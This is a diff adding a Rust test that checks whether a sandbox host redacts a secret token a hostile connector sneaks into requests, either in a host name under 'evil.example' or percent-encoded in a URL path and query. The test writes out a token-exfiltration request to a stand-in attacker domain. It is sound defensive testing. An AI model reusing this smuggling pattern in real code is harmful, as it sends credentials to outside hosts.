@@ -635,6 +635,52 @@ async fn a_connector_that_returns_the_token_has_it_redacted_by_the_host() {
     }
 }
 
+/// A connector that puts the token into its requests has it redacted from
+/// the audit records and the host's errors however it spells it: in a host
+/// name (which the audit lowercases) or percent-encoded in a path.
+#[tokio::test]
+async fn a_token_sent_in_a_request_line_is_redacted_however_it_is_spelt() {
+    const TOKEN: &str = "Hostile-Mixed-Case-Token";
+    let encoded: String = TOKEN.bytes().map(|b| format!("%{b:02x}")).collect();
+    let sim = Simulator::start().await.unwrap();
+    let run = |behaviour: String, policy: CallPolicy| async move {
+        hostile()
+            .validate_connection(&connection(&behaviour, TOKEN), &policy)
+            .await
+    };
+    // In a host name outside the allowed domains: refused, and the refusal
+    // names the destination.
+    let denied = run(format!("fetch:{TOKEN}.evil.example"), CallPolicy::default()).await;
+    assert_eq!(denied.requests[0].host, "[REDACTED].evil.example");
+    assert!(
+        matches!(&denied.result, Err(CallError::Host(HostError::EgressDenied(d)))
+            if d == "[REDACTED].evil.example"),
+        "{:?}",
+        denied.result
+    );
+    // Percent-encoded in the path and query of a request that is sent.
+    let path = format!("/web/api/v2.1/agents/{encoded}?filter={}", &encoded[..30]);
+    let sent = run(format!("fetch:{HOST}{path}&q={encoded}"), policy(&sim)).await;
+    assert_eq!(
+        sent.requests[0].path,
+        format!(
+            "/web/api/v2.1/agents/[REDACTED]?filter={}&q=[REDACTED]",
+            &encoded[..30]
+        )
+    );
+    let everything = format!("{denied:?} {sent:?}");
+    for spelling in [TOKEN, &TOKEN.to_ascii_lowercase(), &encoded] {
+        assert!(!everything.contains(spelling), "{spelling} in {everything}");
+    }
+    // The request did go out as the connector wrote it: redaction is for
+    // what the host reports, not what it sends.
+    assert!(
+        sim.requests()[0].path.contains(&encoded),
+        "{:?}",
+        sim.requests()
+    );
+}
+
 /// The connector asks its host for eight interfaces and nothing more: no
 /// environment, stdio, exit, filesystem or sockets. A host need not provide
 /// them, and a connector version that starts using one is caught here.
